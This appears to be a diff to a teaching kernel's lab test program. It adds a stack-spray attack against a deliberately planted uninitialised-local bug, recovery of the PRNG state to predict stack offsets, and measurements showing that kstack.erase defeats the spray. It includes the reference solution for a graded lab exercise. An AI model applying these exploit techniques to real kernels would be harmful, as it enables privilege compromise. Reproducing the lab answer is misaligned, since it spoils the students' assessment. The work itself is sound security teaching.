@@ -9,6 +9,9 @@
  *               SYS_vuln_use, whose uninitialised local must hold it
  *   addr_reuse  leak a local's address with SYS_vuln_leak, aim
  *               SYS_vuln_write at it
+ *   spray       plant a token in every request of the wide variant's batch
+ *               (1 KiB either side of the one the use checks): it covers
+ *               every depth, so it wins under every strategy
  *
  * Both win only if the two calls' frames are at the same depth: always
  * under `off`, when the two offsets are equal (1 in 64) under a random
@@ -28,9 +31,16 @@
  *
  * Every attempt plants a new token and writes a new value: a token left
  * by an earlier attempt at another depth must not count for this one.
+ * For off, prng and pool the narrow plant and the spray run once more with
+ * kstack.erase on (kernel/syscall/erase.c): the stack a call used is
+ * cleared on its way out, and the spray loses too. `run.args=guide` prints,
+ * instead, where each call lands (the layout and the offsets seen) under
+ * prng with its state recovered (docs/attacks.md, "The exploit progression").
  *
- * KTAP: vuln.fill_use.{off,prng,pool}, vuln.addr_reuse.{off,prng,pool}
- * judge the one-shot rate (bounds in judge()), vuln.fill_use.*.retrying the
+ * KTAP: vuln.fill_use.{off,prng,pool}, vuln.addr_reuse.{off,prng,pool},
+ * vuln.spray.{off,prng,pool} judge the one-shot rate (bounds in judge()),
+ * vuln.spray.*.erased the spray with kstack.erase (measure_erased()),
+ * vuln.refused_fill_plants_nothing a refused request, vuln.fill_use.*.retrying the
  * retrying attackers' median (judge_retrying()), vuln.*.{prng,pool}.predicted
  * the predicting attacker's rate (judge_predicted()); the others are
  * reported. A fill_use win counts only if the kernel granted it too (its
@@ -39,24 +49,26 @@
  * interval and the median on known answers.
  *
  * Lab 8 (docs/labs/08-exploit.md) has the student write fill_use(), the
- * median and the Wilson interval.
+ * median and the Wilson interval, and in its part 2 spray_use().
  */
 #include <math.h>
+#include <stdarg.h>
 
 #include "lib/lfsr113_solve.h"
 #include "lib/user/ulib.h"
 #include "lib/user/vuln.h"
 #include "user/common/kstack_probe.h"
 
-#define TRIALS      4096 /* one-shot attempts per strategy and attack */
-#define RETRIES     101  /* retrying attackers (odd: the median is one of them) */
-#define MAX_TRIES   2000 /* (63/64)^2000 < 1e-13: a retrying attacker always wins */
-#define PRED_TRIALS 512  /* attempts of the predicting attacker */
-#define MAX_BURN    4096 /* calls it may make waiting for two equal offsets */
-#define CHECK_DRAWS 8    /* offsets that must agree with the solved state */
+#define TRIALS       4096 /* one-shot attempts per strategy and attack */
+#define RETRIES      101  /* retrying attackers (odd: the median is one of them) */
+#define MAX_TRIES    2000 /* (63/64)^2000 < 1e-13: a retrying attacker always wins */
+#define PRED_TRIALS  512  /* attempts of the predicting attacker */
+#define ERASE_TRIALS 1024 /* attempts of each attack with kstack.erase on */
+#define MAX_BURN     4096 /* calls it may make waiting for two equal offsets */
+#define CHECK_DRAWS  8    /* offsets that must agree with the solved state */
 
-enum attack { FILL_USE, ADDR_REUSE, NATTACKS };
-static const char *const attack_names[NATTACKS] = {"fill_use", "addr_reuse"};
+enum attack { FILL_USE, ADDR_REUSE, SPRAY, NATTACKS };
+static const char *const attack_names[NATTACKS] = {"fill_use", "addr_reuse", "spray"};
 
 static unsigned long tokens = 0x70c3000000000000ul;
 
@@ -78,12 +90,37 @@ static bool fill_use(unsigned long token)
     LAB 8 END */
 }
 
+/*
+ * The spray (lab 8, part 2): one attempt against the wide variant of bug 1,
+ * whose handler takes a batch of VULN_WIDE_REQUESTS requests into one local
+ * and then checks the middle one's token. Plant `token` in every request of
+ * the batch (each VULN_OP_NOP), present it to the wide use, and say whether
+ * access was granted: whatever the two offsets, the middle of the use's
+ * batch lies inside the 2 KiB the fill wrote.
+ */
+static struct vuln_request batch[VULN_WIDE_REQUESTS];
+
+static bool spray_use(unsigned long token)
+{
+    /* LAB 8 BEGIN: plant the token in every request of a wide batch, then present it */
+    for (unsigned i = 0; i < VULN_WIDE_REQUESTS; i++)
+        batch[i] = (struct vuln_request){VULN_OP_NOP, token};
+    vuln_fill_wide(batch);
+    return vuln_use_wide(token) == 1;
+    /* LAB 8 STUB
+    (void)token, (void)batch;
+    return false;
+    LAB 8 END */
+}
+
 /* One attempt: two calls; true if the second found the first's frame. */
 static bool attempt(enum attack a)
 {
     unsigned long token = ++tokens;
     if (a == FILL_USE)
         return fill_use(token);
+    if (a == SPRAY)
+        return spray_use(token);
     long addr = vuln_leak();
     return vuln_write((unsigned long)addr, token) == 1;
 }
@@ -240,11 +277,15 @@ static void check_statistics(void)
     unsigned five[] = {5, 1, 4, 2, 3}, same[] = {7, 7, 7}, one[] = {9}, big[RETRIES];
     for (unsigned i = 0; i < RETRIES; i++)
         big[i] = (i * 37) % RETRIES + 1000; /* a permutation of 1000..1100 */
+    /* and skewed ones, whose mean is far from the median (34 and 9.2) */
+    unsigned skew[] = {100, 1, 2}, tail[] = {1, 40, 1, 3, 1};
     unsigned m5 = median(five, 5), m3 = median(same, 3), m1 = median(one, 1);
-    unsigned mb = median(big, RETRIES);
-    if (m5 != 3 || m3 != 7 || m1 != 9 || mb != 1050)
-        ktap_note("median: %u %u %u %u, expected 3 7 9 1050", m5, m3, m1, mb);
-    ktap_check(m5 == 3 && m3 == 7 && m1 == 9 && mb == 1050, "vuln.stats.median");
+    unsigned mb = median(big, RETRIES), ms = median(skew, 3), mt = median(tail, 5);
+    bool ok_m = m5 == 3 && m3 == 7 && m1 == 9 && mb == 1050 && ms == 2 && mt == 1;
+    if (!ok_m)
+        ktap_note("median: %u %u %u %u %u %u, expected 3 7 9 1050 2 1%s", m5, m3, m1, mb, ms, mt,
+                  ms == 34 || mt == 9 ? " (the mean is not the median)" : "");
+    ktap_check(ok_m, "vuln.stats.median");
 }
 
 /*
@@ -262,6 +303,16 @@ static void check_statistics(void)
 static void judge(unsigned id, enum attack a, unsigned wins, bool honest)
 {
     const char *attack = attack_names[a], *name = kstack_names[id];
+    if (a == SPRAY) { /* the offset does not stop it: as `off` under every strategy */
+        if (id == KSTACK_OFF || id == KSTACK_PRNG || id == KSTACK_POOL)
+            ktap_check(honest && wins * 100 >= TRIALS * 95u, "vuln.%s.%s", attack, name);
+        return;
+    }
+    if (id == KSTACK_OFF && a == FILL_USE && wins * 100 < TRIALS * 95u)
+        ktap_note("fill_use won %u of %u under off: is the token planted? SYS_vuln_fill "
+                  "refuses (-EINVAL) a request whose op is not VULN_OP_NOP, and a refused "
+                  "request leaves nothing behind",
+                  wins, TRIALS);
     if (id == KSTACK_OFF)
         ktap_check(honest && wins * 100 >= TRIALS * 95u, "vuln.%s.%s", attack, name);
     else if (id == KSTACK_PRNG || id == KSTACK_POOL)
@@ -315,12 +366,12 @@ static void row(const char *name, enum attack a, unsigned wins, unsigned n, cons
  */
 static bool honest(enum attack a, unsigned long before, unsigned claimed)
 {
-    if (a != FILL_USE)
+    if (a == ADDR_REUSE)
         return true;
     unsigned long counted = granted() - before;
     if (counted != claimed)
-        ktap_note("fill_use: the attacker claims %u wins, the kernel granted %lu", claimed,
-                  counted);
+        ktap_note("%s: the attacker claims %u wins, the kernel granted %lu", attack_names[a],
+                  claimed, counted);
     return counted == claimed;
 }
 
@@ -355,9 +406,33 @@ static void measure(unsigned id)
     }
 }
 
+/* Under `off`: a request SYS_vuln_fill refuses (its op is not VULN_OP_NOP)
+ * leaves no token behind, where a right one would win (kernel/uapi/vuln.h):
+ * so an attacker whose request is wrong loses, as lab 8's grade needs. A
+ * few may win anyway: the token passed to the use is also in a user
+ * register, which an interrupt between the two calls can save at that very
+ * depth (about 1 in 10^4 attempts under load); a fill that plants, plants
+ * every time. So the bound is a tenth: 26 of 256 (P(X > 25) for p = 1e-3
+ * is below 1e-30). */
+static void check_refused_fill(void)
+{
+    unsigned refused = 0, planted = 0;
+    for (unsigned i = 0; i < 256; i++) {
+        static volatile unsigned long token; /* in memory, not in a saved register */
+        token = ++tokens;
+        struct vuln_request req = {VULN_OP_NOP + 1, token};
+        refused += vuln_fill(&req) == -EINVAL;
+        planted += vuln_use(token) == 1;
+    }
+    if (refused != 256 || planted != 0)
+        ktap_note("256 fills with a wrong op: %u refused, %u planted their token", refused,
+                  planted);
+    ktap_check(refused == 256 && planted <= 25, "vuln.refused_fill_plants_nothing");
+}
+
 static void measure_predicted(unsigned id)
 {
-    for (enum attack a = 0; a < NATTACKS; a++) {
+    for (enum attack a = 0; a < SPRAY; a++) {
         bool fits;
         unsigned resyncs;
         fflush(stdout); /* nothing may write while the attacker counts draws */
@@ -373,8 +448,128 @@ static void measure_predicted(unsigned id)
     }
 }
 
-int main(void)
+/* kstack.erase on or off (kernel/syscall/erase.c): 0, or -errno. */
+static long set_erase(bool on)
 {
+    return syscall2(SYS_kstack_debug, KSTACK_DEBUG_ERASE, on);
+}
+
+/*
+ * The last step of the progression: the narrow plant and the spray with
+ * kstack.erase on, which clears the stack each system call used on its way
+ * out. No token outlives the call that planted it: the spray, which beat
+ * every strategy, loses. Not always: the token is also in a user register,
+ * which an interrupt between the two calls can save at the very depth the
+ * use reads (about 1 in 10^4 attempts under load, as for the refused
+ * fill); so at most 51 of 1,024 (5%: P(X > 51) for p = 1e-3 is below
+ * 1e-50), where an erase that missed the batch loses nothing (1,024).
+ */
+static void measure_erased(unsigned id)
+{
+    if (set_erase(true) != 0) {
+        ktap_check(false, "vuln.spray.%s.erased (kstack.erase cannot be switched on)",
+                   kstack_names[id]);
+        return;
+    }
+    char name[32];
+    snprintf(name, sizeof(name), "%s+erase", kstack_names[id]);
+    const enum attack erased[] = {FILL_USE, SPRAY};
+    for (unsigned k = 0; k < 2; k++) {
+        enum attack a = erased[k];
+        unsigned wins = 0;
+        unsigned long before = granted();
+        for (unsigned i = 0; i < ERASE_TRIALS; i++)
+            wins += attempt(a);
+        bool ok = honest(a, before, wins);
+        row(name, a, wins, ERASE_TRIALS, "kstack.erase on");
+        if (a == SPRAY)
+            ktap_check(ok && wins <= 51, "vuln.spray.%s.erased", kstack_names[id]);
+    }
+    set_erase(false);
+}
+
+/* ---- the self-guiding mode (run.args=guide) ---------------------------- */
+
+#define GUIDE_LINES 24
+static char guide_lines[GUIDE_LINES][176];
+static unsigned guide_n;
+
+/* A line kept for later: printing is a system call, which would draw an
+ * offset the guide did not count. */
+static void keep(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
+static void keep(const char *fmt, ...)
+{
+    if (guide_n == GUIDE_LINES)
+        return;
+    va_list ap;
+    va_start(ap, fmt);
+    vsnprintf(guide_lines[guide_n++], sizeof(guide_lines[0]), fmt, ap);
+    va_end(ap);
+}
+
+/* Under prng, with its state recovered from leaked offsets, show where each
+ * call of each attack lands: the stack layout (a local's address at each
+ * offset), the depths of the fill and the use, and why each won or lost. */
+static void guide(void)
+{
+    struct lfsr113 g;
+    fflush(stdout);
+    if (kstack_set(KSTACK_PRNG) != 0 || !recover(&g)) {
+        printf("guide: needs strategy prng and kstack.debug (the offset probe)\n");
+        return;
+    }
+    keep("prng's LFSR113 state recovered from %u leaked offsets: every next offset is known",
+         solver.draws);
+    for (unsigned i = 0; i < 6; i++) {
+        uint32_t leak = next_offset(&g);
+        long addr = vuln_leak();
+        uint32_t fill = next_offset(&g), use = next_offset(&g);
+        bool won = fill_use(++tokens);
+        keep("narrow: a local at %#lx at offset %4u (%#lx at offset 0); fill at %4u, use at %4u: "
+             "%s",
+             (unsigned long)addr, leak, (unsigned long)addr + leak, fill, use,
+             won ? "won, the same depth" : "lost, the use read another depth");
+    }
+    for (unsigned i = 0; i < 2; i++) {
+        struct lfsr113 t = g;
+        uint32_t first = next_offset(&t), second = next_offset(&t);
+        unsigned burn = 0;
+        for (; second != first && burn < MAX_BURN; first = second, second = next_offset(&t))
+            burn++;
+        bool won = predicted_attempt(FILL_USE, &g);
+        keep("narrow, predicted: %u harmless calls until two equal offsets (%u, %u): %s", burn,
+             first, second, won ? "won" : "lost (another draw came in between)");
+    }
+    for (int erase = 0; erase < 2; erase++) {
+        if (erase && set_erase(true) != 0)
+            break;
+        for (unsigned i = 0; i < 3; i++) {
+            uint32_t fill = next_offset(&g), use = next_offset(&g);
+            bool won = spray_use(++tokens);
+            keep("spray%s: fill at %4u, use at %4u: the use's frame is %+5d bytes deeper, the "
+                 "batch reaches 1024 either way: %s",
+                 erase ? " + erase" : "", fill, use, (int)use - (int)fill,
+                 won     ? "won"
+                 : erase ? "lost, the fill's stack was cleared"
+                         : "lost");
+        }
+    }
+    set_erase(false);
+    kstack_set(KSTACK_DEFAULT);
+    for (unsigned i = 0; i < guide_n; i++)
+        printf("guide: %s\n", guide_lines[i]);
+}
+
+int main(int argc, char **argv)
+{
+    if (argc > 1 && strcmp(argv[1], "guide") == 0) {
+        kstack_pin(0);
+        if (vuln_leak() == -ENOSYS || !kstack_calibrate())
+            printf("guide: needs a make VULN=1 kernel booted with kstack.debug\n");
+        else
+            guide();
+        return 0;
+    }
     if (vuln_leak() == -ENOSYS) {
         ktap_check(false, "vuln.built_in (this kernel was not built with make VULN=1)");
         return ktap_done();
@@ -399,9 +594,13 @@ int main(void)
             continue;
         }
         fflush(stdout);
+        if (id == KSTACK_OFF)
+            check_refused_fill();
         measure(id);
         if (id == KSTACK_PRNG || id == KSTACK_PRNG_TASK || id == KSTACK_POOL)
             measure_predicted(id);
+        if (id == KSTACK_OFF || id == KSTACK_PRNG || id == KSTACK_POOL)
+            measure_erased(id);
     }
     struct debug_stats st;
     syscall1(SYS_debug_stats, &st);
